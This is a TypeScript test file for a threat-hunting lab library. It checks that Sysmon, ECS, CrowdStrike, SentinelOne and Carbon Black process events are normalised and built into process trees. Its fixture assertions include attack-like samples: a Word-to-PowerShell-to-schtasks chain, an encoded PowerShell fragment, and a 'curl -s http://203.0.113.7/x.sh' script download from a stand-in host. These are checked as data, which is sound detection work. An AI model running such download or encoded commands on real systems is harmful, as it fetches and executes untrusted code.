/** Process events onto the lab's 4688 names, with the process tree's schemas (registered by the package entry). */
import assert from "node:assert/strict";
import path from "node:path";
import { describe, it } from "node:test";
import pl from "nodejs-polars";
import { buildProcessTree, inferProcessSchema, ptree } from "../../../src/index";
import { readDataFile } from "../../../src/data/readers";
import { detectEventSchema, normalizeEvents } from "../../../src/data/schemas/index";
import { DataColumnError } from "../../../src/data/messages";

const FOLDERS = path.join(__dirname, "..", "..", "fixtures", "schemas", "folders");
const col = (df: pl.DataFrame, name: string) => df.getColumn(name).toArray() as unknown[];
const LAB_DESCRIPTIVE = ["TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "SubjectUserName", "ParentProcessName"];

describe("normalizeEvents: process events", () => {
  it("leaves the lab's 4688 events unchanged", () => {
    for (const f of ["process_tree", "processes_on_host"]) {
      const df = pl.readParquet(path.join(__dirname, "..", "..", "..", "data", `${f}.parquet`));
      assert.equal(normalizeEvents(df, "process"), df, f);
    }
  });

  it("Sysmon 1 (CSV): the lab's names added, Sysmon's own ProcessId untouched", () => {
    const raw = readDataFile(path.join(FOLDERS, "sentinel-zeek-sysmon", "process_tree.csv"));
    assert.equal(detectEventSchema(raw, "process").name, "Sysmon 1");
    const df = normalizeEvents(raw, "process");
    for (const c of LAB_DESCRIPTIVE) assert.ok(df.columns.includes(c), c);
    assert.deepEqual(col(df, "ProcessId"), col(raw, "ProcessId"), "Sysmon's ProcessId is the new process: not overwritten");
    assert.ok(!df.columns.includes("NewProcessId"), "ids are read from the export's own columns");
    const ps = df.filter(pl.col("NewProcessName").str.contains("powershell"));
    assert.equal(ps.height, 1);
    assert.deepEqual(col(ps, "Account"), ["NWLOG\\m.lindqvist"]);
    assert.deepEqual(col(ps, "SubjectUserName"), ["m.lindqvist"]);
    assert.match(String(col(ps, "ParentProcessName")[0]), /WINWORD\.EXE$/);
    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
    // The tree is still built from Sysmon's layout, not from the lab-named copies.
    assert.equal(inferProcessSchema(df.columns)?.name, "Sysmon 1");
    const tree = buildProcessTree(df);
    const word = ptree.getDescendents(tree, tree.filter(pl.col("NewProcessName").str.contains("WINWORD")));
    assert.ok(col(word, "NewProcessName").some((n) => String(n).endsWith("schtasks.exe")), "word → powershell → rundll32 → schtasks");
  });

  it("ECS process (nested NDJSON): dotted fields flattened, the lab's names added", () => {
    const raw = readDataFile(path.join(FOLDERS, "ecs", "process_tree.ndjson"));
    assert.equal(raw.getColumn("process").dtype.variant, "Struct");
    const df = normalizeEvents(raw, "process");
    for (const c of [...LAB_DESCRIPTIVE, "process.pid", "process.parent.pid", "process.executable", "@timestamp"]) assert.ok(df.columns.includes(c), c);
    assert.deepEqual([...new Set(col(df, "Computer"))], ["nwl-wks-014"]);
    assert.ok(col(df, "CommandLine").some((c) => String(c).includes("-enc SQBFAFgA")));
    assert.equal(inferProcessSchema(df.columns)?.name, "Elastic ECS process");
    const summary = ptree.getSummaryInfo(buildProcessTree(df));
    assert.equal(summary.Processes, raw.height + summary.InferredProcesses);
    assert.ok(summary.LargestTreeDepth >= 5);
  });

  it("CrowdStrike ProcessRollup2 (Event Search CSV, FDR NDJSON): the lab's names added; the tree links TargetProcessId ← ParentProcessId per sensor, whatever the times", () => {
    const PROC = path.join(__dirname, "..", "..", "fixtures", "schemas", "process");
    const raw = readDataFile(path.join(PROC, "crowdstrike_processrollup2.csv"));
    assert.equal(detectEventSchema(raw, "process").name, "CrowdStrike ProcessRollup2");
    const df = normalizeEvents(raw, "process");
    for (const c of ["TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "SubjectUserName", "ParentProcessName"]) assert.ok(df.columns.includes(c), c);
    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
    // The search's DnsRequest is no process event: left out, as the other kinds leave out other events' rows (it gained the lab's columns before).
    assert.equal(df.height, raw.height - 1);
    assert.deepEqual([...new Set(col(df, "event_simpleName"))].sort(), ["ProcessRollup2", "SyntheticProcessRollup2"]);
    // ParentBaseFileName is a file name: the parent's full image where its event is in the data (explorer's parent, the synthetic winlogon), else the file name (SRV-02's wininit.exe).
    const parentOf = (image: string) => col(df.filter(pl.col("ImageFileName").str.contains(image, true)), "ParentProcessName");
    assert.deepEqual(parentOf("\\explorer.exe"), ["\\Device\\HarddiskVolume3\\Windows\\System32\\winlogon.exe"]);
    assert.deepEqual(parentOf("\\cmd.exe"), ["\\Device\\HarddiskVolume3\\Windows\\explorer.exe"]);
    assert.deepEqual(parentOf("\\services.exe"), ["wininit.exe"]);
    assert.deepEqual(parentOf("\\winlogon.exe"), [null], "the synthetic event has no parent name");
    const tree = buildProcessTree(df);
    // A SyntheticProcessRollup2 is a process running when the sensor started: explorer's real parent, not a rebuilt one.
    assert.equal(tree.height, 7 + ptree.getSummaryInfo(tree).InferredProcesses);
    const explorer = tree.filter(pl.col("NewProcessName").str.contains("explorer.exe"));
    const winlogon = tree.filter(pl.col("ImageFileName").str.contains("winlogon.exe", true).and(pl.col("IsInferred").not()));
    assert.deepEqual(col(winlogon, "event_simpleName"), ["SyntheticProcessRollup2"], "the row says it is synthetic");
    assert.deepEqual(col(explorer, "parent_key"), col(winlogon, "proc_key"));
    // Its ParentProcessId 0 names no parent (an unset GUID): a root, no "unknown" process 0 rebuilt above it.
    assert.deepEqual(col(winlogon, "IsRoot"), [true]);
    assert.deepEqual(col(tree.filter(pl.col("IsInferred")), "ImageFileName"), ["wininit.exe"], "the only rebuilt parent is SRV-02's");
    const below = col(ptree.getDescendents(tree, explorer), "NewProcessName").map((n) => String(n).split("\\").pop());
    // whoami's event is 50 ms before powershell's: linked by the ids all the same.
    assert.deepEqual(below, ["explorer.exe", "cmd.exe", "powershell.exe", "whoami.exe"]);
    // services.exe's parent is not in the data: the rebuilt parent is named by ParentBaseFileName.
    const rebuilt = tree.filter(pl.col("IsInferred").and(pl.col("ComputerName").eq(pl.lit("SRV-02"))));
    assert.deepEqual(col(rebuilt, "ImageFileName"), ["wininit.exe"]);
    // SRV-02's services.exe has cmd.exe's RawProcessId (5004): no link across hosts.
    const srv = tree.filter(pl.col("Computer").eq(pl.lit("SRV-02")));
    assert.deepEqual(col(ptree.getDescendents(tree, srv.filter(pl.col("NewProcessName").str.contains("services"))), "NewProcessName").map((n) => String(n).split("\\").pop()), ["services.exe", "svchost.exe"]);

    // FDR: every value text, no ComputerName: the sensor id is the host, so the same ParentProcessId on another sensor is another process.
    const fdr = readDataFile(path.join(PROC, "crowdstrike_fdr.ndjson"));
    assert.equal(detectEventSchema(fdr, "process").name, "CrowdStrike ProcessRollup2 (FDR)");
    const fdrEvents = normalizeEvents(fdr, "process");
    assert.ok(!col(fdrEvents, "event_simpleName").includes("NetworkConnectIP4"), "FDR's network events are left out");
    const fdrTree = buildProcessTree(fdrEvents);
    const fdrExplorer = fdrTree.filter(pl.col("NewProcessName").str.contains("explorer.exe"));
    assert.deepEqual(col(ptree.getDescendents(fdrTree, fdrExplorer), "CommandLine"), ["C:\\Windows\\Explorer.EXE", '"C:\\Windows\\system32\\cmd.exe" /c whoami /all'], "not SRV-02's cmd.exe, whose ParentProcessId is the same number");
  });

  it("SentinelOne Deep Visibility (dotted CSV): tgt.process is the new process, src.process its parent; uids link the tree whatever PID reuse says; other event types left out", () => {
    const raw = readDataFile(path.join(__dirname, "..", "..", "fixtures", "schemas", "process", "sentinelone_dv.csv"));
    assert.equal(detectEventSchema(raw, "process").name, "SentinelOne Deep Visibility");
    const df = normalizeEvents(raw, "process");
    for (const c of LAB_DESCRIPTIVE) assert.ok(df.columns.includes(c), c);
    assert.equal(df.height, raw.height - 1, "the File Creation event is no process");
    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
    const word = df.filter(pl.col("tgt.process.name").eq(pl.lit("WINWORD.EXE")));
    assert.deepEqual(col(word, "ParentProcessName"), ["C:\\Windows\\explorer.exe"]);
    assert.deepEqual(col(word, "Account"), ["NEXACORP\\dana.levi"]);
    assert.deepEqual(col(word, "SubjectUserName"), ["dana.levi"]);
    assert.deepEqual(col(word, "Computer"), ["WKS-7"]);
    assert.deepEqual(col(df.filter(pl.col("tgt.process.uid").eq(pl.lit("C61F7C3E9B2D6E10"))), "CommandLine"), [null], "an empty command line stays empty; the row stays");
    assert.equal(inferProcessSchema(df.columns)?.name, "SentinelOne Deep Visibility");
    const tree = buildProcessTree(df);
    const names = (t: pl.DataFrame) => col(t, "tgt.process.name");
    const wordRow = tree.filter(pl.col("tgt.process.name").eq(pl.lit("WINWORD.EXE")));
    assert.deepEqual(names(ptree.getDescendents(tree, wordRow)), ["WINWORD.EXE", "powershell.exe", "rundll32.exe"]);
    // powershell's PID 7412 came back as another process (another uid): whoami is the second one's child, not the first's.
    const whoami = tree.filter(pl.col("tgt.process.name").eq(pl.lit("whoami.exe")));
    assert.deepEqual(col(ptree.getParent(tree, whoami), "tgt.process.uid"), ["C61F7C3E9B2D6E10"]);
    // explorer.exe is not in the data: rebuilt once (one uid) for both its children, with its own start time, under a rebuilt userinit.
    const explorer = tree.filter(pl.col("IsInferred").and(pl.col("tgt.process.uid").eq(pl.lit("E1A0C3D2B1F40001"))));
    assert.equal(explorer.height, 1);
    assert.deepEqual(col(explorer, "tgt.process.image.path"), ["C:\\Windows\\explorer.exe"]);
    assert.deepEqual(names(ptree.getChildren(tree, explorer)).sort(), ["WINWORD.EXE", "powershell.exe"]);
    assert.match(String(col(ptree.getParent(tree, explorer), "tgt.process.image.path")[0]), /userinit\.exe$/);
    // The same PIDs on SRV-1 are another host's.
    assert.deepEqual(col(tree.filter(pl.col("endpoint.name").eq(pl.lit("SRV-1")).and(pl.col("IsInferred").not())), "tgt.process.name"), ["svchost.exe"]);
  });

  it("Carbon Black Cloud process search (CSV): process_guid/parent_guid link the tree whatever PID reuse and hosts say; process_start_time keys it", () => {
    const raw = readDataFile(path.join(__dirname, "..", "..", "fixtures", "schemas", "process", "carbon_black_cloud.csv"));
    assert.equal(detectEventSchema(raw, "process").name, "Carbon Black Cloud");
    const df = normalizeEvents(raw, "process");
    for (const c of LAB_DESCRIPTIVE) assert.ok(df.columns.includes(c), c);
    assert.equal(df.height, raw.height, "every row of a process search is a process");
    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
    const curl = df.filter(pl.col("process_pid").eq(7700));
    assert.deepEqual(col(curl, "NewProcessName"), ["/usr/bin/curl"]);
    assert.deepEqual(col(curl, "ParentProcessName"), ["/usr/bin/bash"]);
    assert.deepEqual(col(curl, "CommandLine"), ["curl -s http://203.0.113.7/x.sh"]);
    assert.deepEqual(col(curl, "Computer"), ["srv-1"]);
    const word = df.filter(pl.col("process_pid").eq(6120));
    assert.deepEqual(col(word, "Account"), ["NEXACORP\\dana.levi"]);
    assert.deepEqual(col(word, "SubjectUserName"), ["dana.levi"]);
    assert.equal(inferProcessSchema(df.columns)?.name, "Carbon Black Cloud");
    const tree = buildProcessTree(df);
    const name = (t: pl.DataFrame) => col(t, "process_name").map((n) => String(n).split(/[\\/]/).pop());
    const wordRow = tree.filter(pl.col("process_pid").eq(6120));
    assert.deepEqual(name(ptree.getDescendents(tree, wordRow)), ["winword.exe", "powershell.exe", "rundll32.exe"]);
    // PID 7412 came back on wks-7 as another process (another GUID): whoami is the second one's child.
    const whoami = tree.filter(pl.col("process_pid").eq(7600));
    assert.deepEqual(col(ptree.getParent(tree, whoami), "process_guid"), ["7DESJ9GN-0034d5f2-00001cf4-00000000-1dd3f2a1b000009"]);
    // explorer.exe is not in the search: rebuilt once (one GUID) for both its children.
    const explorer = tree.filter(pl.col("IsInferred").and(pl.col("process_guid").eq(pl.lit("7DESJ9GN-0034d5f2-0000113a-00000000-1dd3f29f0000001"))));
    assert.equal(explorer.height, 1);
    assert.deepEqual(col(explorer, "process_name"), ["c:\\windows\\explorer.exe"]);
    assert.deepEqual(name(ptree.getChildren(tree, explorer)).sort(), ["powershell.exe", "winword.exe"]);
    // srv-1's sshd has wks-7's explorer PID (4410) and its bash PID 7412: another host's processes, their own tree.
    const bash = tree.filter(pl.col("process_name").eq(pl.lit("/usr/bin/bash")));
    assert.deepEqual(col(ptree.getParent(tree, bash), "process_name"), ["/usr/sbin/sshd"]);
    assert.deepEqual(name(ptree.getChildren(tree, bash)), ["curl"]);
    // The start time keys a process; where a result has none (whoami), device_timestamp stands in.
    assert.equal((col(tree.filter(pl.col("process_pid").eq(6120)), "process_start_time")[0] as Date).toISOString(), "2026-09-28T10:10:21.000Z");
    assert.equal(whoami.height, 1);
  });

  it("Carbon Black Cloud API JSON: its lists of one value (process_pid: [2976]) are their value, so it gives the CSV export's columns and tree", () => {
    const dir = path.join(__dirname, "..", "..", "fixtures", "schemas", "process");
    const raw = readDataFile(path.join(dir, "carbon_black_cloud.json"));
    assert.equal(raw.getColumn("process_pid").dtype.variant, "List");
    const csv = readDataFile(path.join(dir, "carbon_black_cloud.csv"));
    const lab = (df: pl.DataFrame) => normalizeEvents(df, "process").select(...LAB_DESCRIPTIVE).toRecords();
    assert.deepEqual(lab(raw), lab(csv));
    // Straight to the tree too, without normalizeEvents.
    assert.equal(ptree.treeToText(buildProcessTree(raw)), ptree.treeToText(buildProcessTree(normalizeEvents(csv, "process"))));
    // A list with two values is no single value: named by the tree's type check, not a polars cast error.
    const two = raw.withColumns(pl.Series("process_pid", [[1, 2], ...Array.from({ length: raw.height - 1 }, () => [3])]));
    assert.throws(() => buildProcessTree(two), /The column "process_pid" \(the schema's processId\) holds List values/);
  });

  it("keeps only process events, as the logon and flow schemas keep only theirs: other event types out, rows without an event type kept, no warning", () => {
    const warnings: string[] = [];
    // ECS: a Winlogbeat Sysmon 3 connection also has event.type start (its category network); a row without event.type cannot be told apart.
    const ecs = pl.DataFrame({
      "@timestamp": ["2026-11-03T22:41:02Z", "2026-11-03T22:41:03Z", "2026-11-03T22:41:04Z", "2026-11-03T22:41:05Z"],
      "event.type": ['["start"]', '["start","connection"]', "end", null],
      "event.category": ['["process"]', '["network"]', '["process"]', null],
      "process.executable": ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/bash", "/usr/bin/id"],
      "process.pid": [10, 11, 10, 12],
      "process.parent.pid": [1, 10, 1, 10],
      "host.name": ["h", "h", "h", "h"],
      "user.name": ["u", "u", "u", "u"],
    });
    assert.deepEqual(col(normalizeEvents(ecs, "process", { warn: (m) => warnings.push(m) }), "process.executable"), ["/usr/bin/bash", "/usr/bin/id"]);
    // The same with event.type as lists (nested NDJSON): a null or empty list is no type, kept.
    const lists = ecs.withColumns(pl.Series("event.type", [["start"], ["start", "connection"], ["end"], []], pl.List(pl.Utf8)));
    assert.deepEqual(col(normalizeEvents(lists, "process", { warn: (m) => warnings.push(m) }), "process.executable"), ["/usr/bin/bash", "/usr/bin/id"]);
    // MDE: DeviceProcessEvents holds other ActionTypes (OpenProcessApiCall) beside ProcessCreated.
    const mde = readDataFile(path.join(__dirname, "..", "..", "fixtures", "schemas", "process", "mde.csv"));
    const actions = col(mde, "ActionType").map((a, k) => (k === 0 ? "OpenProcessApiCall" : a));
    const other = mde.withColumns(pl.Series("ActionType", actions, pl.Utf8));
    const mapped = normalizeEvents(other, "process", { warn: (m) => warnings.push(m) });
    assert.equal(mapped.height, mde.height - 1);
    assert.ok(!col(mapped, "ActionType").includes("OpenProcessApiCall"));
    assert.deepEqual(warnings, []);
  });

  it("a schema's event type may be a list of values (any marks a process creation); an empty list filters nothing", () => {
    const events = pl.DataFrame({
      t: ["2026-11-03 10:00:00", "2026-11-03 10:00:01", "2026-11-03 10:00:02"],
      kind: ["spawn", "fork", "dns"],
      image: ["/bin/a", "/bin/b", "/bin/c"],
      pid: [1, 2, 3],
      ppid: [0, 1, 2],
    });
    const schema = { processName: "image", processId: "pid", parentId: "ppid", timeStamp: "t", eventIdColumn: "kind", pathSeparator: "/" };
    const own = (ids: readonly string[]) => col(buildProcessTree(events, { schema: { ...schema, eventIdIdentifier: ids } }).filter(pl.col("IsInferred").not()), "image");
    assert.deepEqual(own(["spawn", "fork"]), ["/bin/a", "/bin/b"]);
    assert.deepEqual(own([]), ["/bin/a", "/bin/b", "/bin/c"]);
  });

  it("no known schema: the closest process layout and close names", () => {
    const df = pl.DataFrame({ Image: ["C:\\x.exe"], ProcessID: [1], ParentProcessId: [2], UtcTime: ["2026-10-05 08:00:00"] });
    assert.throws(
      () => normalizeEvents(df, "process", { source: "WindowsSecurity.get_process_tree (process_tree.csv)" }),
      (err: unknown) => {
        assert.ok(err instanceof DataColumnError);
        assert.equal(err.code, "data/event-schema-unknown");
        assert.match(err.message, /process_tree\.csv/);
        assert.match(err.message, /Closest: Sysmon 1, which needs "ProcessId" \(close: "ProcessID"/);
        return true;
      },
    );
  });
});
